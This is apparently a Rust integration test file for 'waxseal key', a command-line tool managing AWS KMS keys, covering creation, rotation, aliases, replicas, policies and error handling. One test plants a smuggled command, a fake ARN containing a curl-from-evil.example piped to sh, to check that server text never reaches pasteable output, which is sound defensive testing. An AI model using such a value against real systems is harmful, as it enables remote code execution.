//! `waxseal key`: the life of a key but for its end.

use serde_json::Value;
use waxseal_testkit::Fault;

use crate::support::Aws;
use crate::support::Ran;
use crate::support::User;
use crate::support::user_of_moto;

/// The report of a command that succeeds.
#[track_caller]
pub(crate) fn json(user: &User, line: &str) -> Value {
    let ran = user.run(&format!("{line} --json")).succeeds();
    serde_json::from_slice(&ran.stdout).unwrap()
}

/// What was printed.
pub(crate) fn text(ran: &Ran) -> &str {
    std::str::from_utf8(&ran.stdout).unwrap()
}

/// How often KMS was asked for something that changes keys.
pub(crate) fn changes(aws: &Aws) -> usize {
    let changing = |operation: &str| {
        !["Describe", "List", "Get", "Decrypt", "Encrypt", "Generate"]
            .iter()
            .any(|start| operation.starts_with(start))
    };
    let calls = aws.services.calls();
    let kms = calls.iter().filter(|call| call.service == waxseal_testkit::Service::Kms);
    kms.filter(|call| changing(&call.operation)).count()
}

#[test]
fn a_key_is_made_used_and_managed() {
    for (aws, user) in worlds("a_key_is_made_used_and_managed") {
        let alias = own_alias("life");
        let alias = alias.as_str();
        let made = json(
            &user,
            &format!(
                "key create --alias {alias} --tag team=a --tag cost=1 --description mine \
                 --enable-rotation --rotation-days 90"
            ),
        );
        let arn = made["arn"].as_str().unwrap();
        assert!(arn.ends_with(made["key_id"].as_str().unwrap()));
        assert_eq!((&made["alias"], &made["rotation_days"]), (&alias.into(), &90.into()));
        user.run_with(&format!("seal --key aws-kms:{alias} -o s"), b"hello").succeeds();

        for name in [alias, arn, &format!("aws-kms:{alias}"), &format!("aws-kms-rsa:{arn}")] {
            let shown = json(&user, &format!("key show {name}"));
            assert_eq!(shown["arn"], arn);
            assert_eq!(shown["aliases"], serde_json::json!([alias]));
            assert_eq!(shown["description"], "mine");
            assert_eq!(shown["state"], "Enabled");
            assert_eq!(shown["spec"], "SYMMETRIC_DEFAULT");
            assert_eq!(shown["tags"], serde_json::json!({ "team": "a", "cost": "1" }));
            assert_eq!(shown["rotation"]["enabled"], true);
            // Moto does not tell the dates.
            if aws.is_some() {
                assert_eq!(shown["rotation"]["period_days"], 90);
                assert!(shown["rotation"]["next"].as_str().unwrap().ends_with('Z'));
            }
            assert_eq!(shown["grants"], 0);
            assert_eq!(shown["multi_region"], Value::Null);
            assert_eq!(shown["not_permitted"], serde_json::json!([]));
        }
        let shown = user.run(&format!("key show {alias}")).succeeds();
        let rotation = if aws.is_some() { "every 90 days, next 20" } else { "rotation        on" };
        for part in ["state           Enabled\n", rotation, "team=a\n"] {
            assert!(text(&shown).contains(part), "no {part}: {}", text(&shown));
        }

        user.run(&format!("key disable {alias}")).succeeds();
        // Moto opens even so.
        if aws.is_some() {
            user.run(&format!("open --key aws-kms:{alias} s")).fails(4, &["DisabledException"]);
        }
        assert_eq!(json(&user, &format!("key show {alias}"))["state"], "Disabled");
        assert_eq!(json(&user, &format!("key enable {alias}"))["state"], "Enabled");

        let rotated = json(&user, &format!("key disable-rotation {alias}"));
        assert_eq!((&rotated["enabled"], &rotated["next"]), (&false.into(), &Value::Null));
        let rotated = json(&user, &format!("key enable-rotation --days 400 {alias}"));
        assert_eq!(rotated["enabled"], true);
        assert!(aws.is_none() || rotated["period_days"] == 400, "{rotated}");
        user.run(&format!("key rotate-now {alias}")).succeeds();
        assert_eq!(user.run(&format!("open --key aws-kms:{alias} s")).succeeds().stdout, b"hello");

        let listed = json(&user, "key list");
        let mine = |entry: &&Value| entry["arn"] == arn;
        let entry = listed.as_array().unwrap().iter().find(mine).unwrap();
        assert_eq!((&entry["state"], &entry["aliases"][0]), (&"Enabled".into(), &alias.into()));
        let listed = user.run("key list").succeeds();
        let is_mine = |line: &str| line.contains("  Enabled ") && line.ends_with(alias);
        assert!(text(&listed).lines().any(is_mine), "{}", text(&listed));
    }
}

/// The testkit, and moto where there is one, whose state outlives tests.
fn worlds(test: &str) -> impl Iterator<Item = (Option<Aws>, User)> {
    let aws = Aws::start();
    let user = aws.user();
    let peer = user_of_moto(test).map(|user| (None, user));
    std::iter::once((Some(aws), user)).chain(peer)
}

/// An alias that no earlier run has left behind.
fn own_alias(name: &str) -> String {
    let since = std::time::SystemTime::UNIX_EPOCH.elapsed().unwrap();
    format!("alias/{name}-{}-{}", std::process::id(), since.as_nanos())
}

#[test]
fn every_kind_of_key_does_what_it_is_for() {
    let aws = Aws::start();
    let user = aws.user();
    user.write("plain", "hello");
    for (kind, spec) in
        [("rsa-2048", "RSA_2048"), ("rsa-3072", "RSA_3072"), ("ecc-sign", "ECC_NIST_P384")]
    {
        let made = json(&user, &format!("key create --alias alias/{kind} --spec {kind}"));
        assert_eq!(made["spec"], spec);
        let shown = json(&user, &format!("key show alias/{kind}"));
        assert_eq!((&shown["rotation"], &shown["spec"]), (&Value::Null, &spec.into()));
    }
    user.run("seal plain -o s --key aws-kms-rsa:alias/rsa-2048 --sign aws-kms:alias/ecc-sign")
        .succeeds();
    let open = "open s --key aws-kms-rsa:alias/rsa-2048 --signed-by aws-kms:alias/ecc-sign";
    assert_eq!(user.run(open).succeeds().stdout, b"hello");
    user.run("key enable-rotation alias/ecc-sign").fails(4, &["UnsupportedOperation", "key show"]);
}

#[test]
fn an_alias_in_use_costs_no_key() {
    let aws = Aws::start();
    let user = aws.user();
    user.run("key create --alias alias/demo").fails(4, &["alias/demo", &aws.key, "--move"]);
    aws.services.fail("DescribeKey", 1, Fault::kms_error(400, "AccessDeniedException"));
    user.run("key create --alias alias/new")
        .fails(4, &["cannot tell", "no key was made", "allow kms:DescribeKey"]);
    assert_eq!(changes(&aws), 0);
}

#[test]
fn what_can_never_work_costs_no_key() {
    let aws = Aws::start();
    let user = aws.user();
    user.write("policy", "not JSON");
    user.write("array", "[]");
    for line in [
        "key create --alias demo",
        "key create --alias alias/",
        "key create --alias alias/aws/s3",
        "key create --tag novalue",
        "key create --tag aws:a=b",
        "key create --tag a=b --tag a=c",
        "key create --rotation-days 90",
        "key create --enable-rotation --rotation-days 89",
        "key create --enable-rotation --rotation-days 2561",
        "key create --enable-rotation --spec rsa-2048",
        "key create --spec aes",
        "key create --policy policy",
        "key create --policy array",
        "key show demo",
        "key show local",
        "key enable-rotation --days 1 alias/demo",
    ] {
        let ran = user.run(line);
        assert_eq!(ran.code, Some(2), "{line}: {}", ran.stderr);
    }
    user.run("key create --policy absent").fails(5, &["absent"]);
    assert!(aws.services.calls().is_empty());
}

#[test]
fn a_key_that_was_half_made_is_not_lost() {
    let aws = Aws::start();
    let user = aws.user();
    let create = "key create --alias alias/new --enable-rotation --rotation-days 90";
    for (operation, left) in [
        ("EnableKeyRotation", "waxseal key enable-rotation --days 90 arn:"),
        ("CreateAlias", "waxseal key alias alias/new arn:"),
    ] {
        aws.services.fail(operation, 1, Fault::kms_error(400, "AccessDeniedException"));
        let ran = user.run(create).fails(4, &[left, "alias/new", "schedule-deletion --unchecked"]);
        let arn = ran.stderr.split("made the key ").nth(1).unwrap().lines().next().unwrap();
        assert!(ran.stderr.contains(&format!("made {arn}, but cannot")), "{}", ran.stderr);
        assert_eq!(json(&user, &format!("key show {arn}"))["state"], "Enabled");
        // What the message says finishes it.
        if operation == "CreateAlias" {
            user.run(&format!("key alias alias/new {arn}")).succeeds();
            let shown = json(&user, "key show alias/new");
            assert_eq!((&shown["arn"], &shown["rotation"]["enabled"]), (&arn.into(), &true.into()));
        }
    }
}

#[test]
fn a_new_key_that_is_not_known_everywhere_is_waited_for() {
    let aws = Aws::start();
    let user = aws.user();
    for operation in ["EnableKeyRotation", "CreateAlias"] {
        aws.services.fail(operation, 2, Fault::kms_error(400, "NotFoundException"));
    }
    user.run("key create --alias alias/new --enable-rotation").succeeds();
    assert_eq!(aws.services.count("CreateKey"), 1);
    assert_eq!(aws.services.count("CreateAlias"), 3);
}

/// A reply that is lost must not make two keys, rotations or grants.
#[test]
fn what_is_not_idempotent_is_sent_once() {
    let aws = Aws::start();
    let mut user = aws.user();
    user.set("AWS_MAX_ATTEMPTS", "3");
    for (operation, line) in [
        ("CreateKey", "key create"),
        ("RotateKeyOnDemand", "key rotate-now alias/demo"),
        (
            "CreateGrant",
            "key grant create alias/demo --operation Decrypt --grantee arn:aws:iam::1:role/a",
        ),
    ] {
        aws.services.fail(operation, 1, Fault::LoseReply);
        user.run(line).fails(4, &["if the request arrived"]);
        assert_eq!(aws.services.count(operation), 1, "{operation}");
    }
    // What can be repeated is.
    aws.services.fail("DisableKey", 1, Fault::LoseReply);
    user.run("key disable alias/demo").succeeds();
    assert_eq!(aws.services.count("DisableKey"), 2);
}

#[test]
fn a_policy_is_given_and_checked() {
    let aws = Aws::start();
    let user = aws.user();
    let policy = |principal: &str| {
        format!(
            r#"{{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow",
            "Principal": {{"AWS": "arn:aws:iam::111122223333:{principal}"}},
            "Action": "kms:*", "Resource": "*"}}]}}"#
        )
    };
    user.write("good", policy("root"));
    user.write("locks-out", policy("role/other"));
    let made = json(&user, "key create --policy good");
    let get = format!(r#"{{"KeyId": "{}"}}"#, made["key_id"].as_str().unwrap());
    let (_, reply) = aws.services.kms_state().handle("TrentService.GetKeyPolicy", get.as_bytes());
    let reply: Value = serde_json::from_str(&reply).unwrap();
    assert_eq!(reply["Policy"], policy("root"));
    user.run("key create --alias alias/x --policy locks-out")
        .fails(4, &["MalformedPolicyDocument", "mend the policy"]);
    user.run("key show alias/x").fails(4, &["NotFoundException", "key list"]);
}

#[test]
fn an_alias_moves_only_when_told_to() {
    for (aws, user) in worlds("an_alias_moves_only_when_told_to") {
        let [moving, other] = ["moving", "other"].map(own_alias);
        let [old, new] =
            [(); 2].map(|()| json(&user, "key create")["arn"].as_str().unwrap().to_owned());
        let named = json(&user, &format!("key alias {moving} {old}"));
        assert_eq!((&named["changed"], &named["moved_from"]), (&true.into(), &Value::Null));
        let named = json(&user, &format!("key alias {moving} {old}"));
        assert_eq!(named["changed"], false);
        let before = aws.as_ref().map(changes);
        user.run(&format!("key alias {moving} {new}")).fails(4, &[&old, &new, "--move"]);
        assert_eq!(aws.as_ref().map(changes), before);
        assert_eq!(json(&user, &format!("key show {moving}"))["arn"], *old);

        user.run(&format!("key alias {other} {new}")).succeeds();
        let named = json(&user, &format!("key alias --move {moving} {other}"));
        assert_eq!((&named["arn"], &named["moved_from"]), (&(*new).into(), &(*old).into()));
        assert_eq!(json(&user, &format!("key show {moving}"))["arn"], *new);
    }
}

#[test]
fn replicas_are_keys_of_their_own() {
    let aws = Aws::start();
    let user = aws.user();
    let made = json(&user, "key create --alias alias/multi --multi-region");
    let primary = made["arn"].as_str().unwrap();
    let there = json(&user, "key replicate alias/multi --to-region eu-west-1 --tag team=b");
    let replica = there["arn"].as_str().unwrap();
    assert_eq!(replica, primary.replace("us-east-1", "eu-west-1"));
    let shown = json(&user, "key show alias/multi");
    assert_eq!(shown["multi_region"]["primary"], primary);
    assert_eq!(shown["multi_region"]["replicas"], serde_json::json!([replica]));
    assert_eq!(json(&user, &format!("key show {replica}"))["tags"]["team"], "b");

    // Its ARN leads to the replica alone, though the configured Region has this key too.
    assert_eq!(json(&user, &format!("key disable {replica}"))["arn"], replica);
    assert_eq!(json(&user, &format!("key show {primary}"))["state"], "Enabled");
    assert_eq!(json(&user, &format!("key show {replica}"))["state"], "Disabled");

    let before = changes(&aws);
    user.run(&format!("key replicate {replica} --to-region eu-north-1"))
        .fails(4, &["is a replica", primary]);
    user.run("key replicate alias/demo --to-region eu-west-1")
        .fails(4, &["a key of one Region", "--multi-region"]);
    assert_eq!(changes(&aws), before);
    user.run("key replicate alias/multi --to-region eu-west-1").fails(4, &["AlreadyExists"]);
}

#[test]
fn what_may_not_be_seen_is_said_to_be() {
    let aws = Aws::start();
    let user = aws.user();
    let unseen = ["ListAliases", "ListResourceTags", "GetKeyRotationStatus", "ListGrants"];
    let deny = || {
        for operation in unseen {
            let fault = Fault::kms_error(400, "AccessDeniedException");
            aws.services.fail(operation, 1, fault);
        }
    };
    deny();
    let shown = json(&user, "key show alias/demo");
    assert_eq!(shown["not_permitted"], serde_json::json!(unseen));
    for field in ["aliases", "tags", "rotation", "grants"] {
        assert_eq!(shown[field], Value::Null, "{field}");
    }
    deny();
    let shown = user.run("key show alias/demo").succeeds();
    for operation in unseen {
        assert!(text(&shown).contains(&format!("(kms:{operation} is not permitted)")));
    }
    aws.services.kms_state().deny("alias/demo");
    user.run("key show alias/demo").fails(4, &["AccessDenied", "allow kms:DescribeKey"]);
    let listed = json(&user, "key list");
    assert_eq!(
        (&listed[0]["state"], &listed[0]["aliases"][0]),
        (&Value::Null, &"alias/demo".into())
    );
}

#[test]
fn what_kms_stores_cannot_reach_the_terminal() {
    let aws = Aws::start();
    let user = aws.user();
    let id = aws.key.rsplit('/').next().unwrap();
    let body = format!(r#"{{"KeyId": "{id}", "Description": "\u001b[31mred"}}"#);
    let kms = aws.services.kms_state();
    assert_eq!(kms.handle("TrentService.UpdateKeyDescription", body.as_bytes()).0, 200);
    let body = format!(
        r#"{{"KeyId": "{id}", "Tags": [{{"TagKey": "\u001b[2J", "TagValue": "\u0007"}}]}}"#
    );
    assert_eq!(kms.handle("TrentService.TagResource", body.as_bytes()).0, 200);
    let shown = user.run("key show alias/demo").succeeds();
    assert!(text(&shown).contains("[31mred") && text(&shown).contains("[2J="));
    assert!(!shown.stdout.iter().any(|b| matches!(b, 0x1b | 0x07)), "{}", text(&shown));
}

#[test]
fn no_command_to_paste_is_the_servers() {
    let aws = Aws::start();
    let user = aws.user();
    for arn in ["arn:aws:kms:x:1:key/`curl evil.example|sh`", "x", "arn:;id", ""] {
        let metadata = serde_json::json!({ "KeyMetadata": { "KeyId": "x", "Arn": arn } });
        for (operation, line) in
            [("DescribeKey", "key disable alias/demo"), ("CreateKey", "key create")]
        {
            let body = metadata.to_string();
            let content_type = "application/x-amz-json-1.1";
            aws.services.fail(operation, 1, Fault::Reply { status: 200, content_type, body });
            let ran = user.run(line).fails(4, &[operation, "is not complete"]);
            assert!(!ran.stderr.contains("evil"), "{}", ran.stderr);
        }
    }
    assert_eq!(aws.services.count("DisableKey"), 0);
}

#[test]
fn kms_refusals_have_a_cause_a_request_id_and_a_remedy() {
    let aws = Aws::start();
    let user = aws.user();
    user.run("key show alias/absent")
        .fails(4, &["cannot show alias/absent: KMS DescribeKey: NotFoundException", "request id"]);
    user.run("key disable alias/demo").succeeds();
    user.run("key rotate-now alias/demo").fails(4, &["DisabledException", "waxseal key enable"]);
    aws.services.fail("EnableKey", 1, Fault::kms_error(400, "ThrottlingException"));
    user.run("key enable alias/demo").fails(4, &["ThrottlingException", "run it again later"]);
    aws.services.fail("DescribeKey", 1, Fault::kms_error(400, "ExpiredTokenException"));
    user.run("key show alias/demo").fails(4, &["ExpiredToken", "credentials"]);
    let mut user = User::new();
    user.run("key list").fails(4, &["no AWS Region"]);
    user.set("AWS_REGION", "us-east-1");
    user.set("AWS_ENDPOINT_URL", "http://127.0.0.1:1");
    user.set("AWS_MAX_ATTEMPTS", "1");
    user.run("key list").fails(4, &["credentials"]);
    user.set("AWS_ACCESS_KEY_ID", "test");
    user.set("AWS_SECRET_ACCESS_KEY", "test");
    user.run("key list").fails(4, &["Connection refused", "--endpoint-url"]);
    user.set("AWS_ENDPOINT_URL", "http://kms.invalid");
    user.run("key create").fails(4, &["plain http://", "https://"]);
}
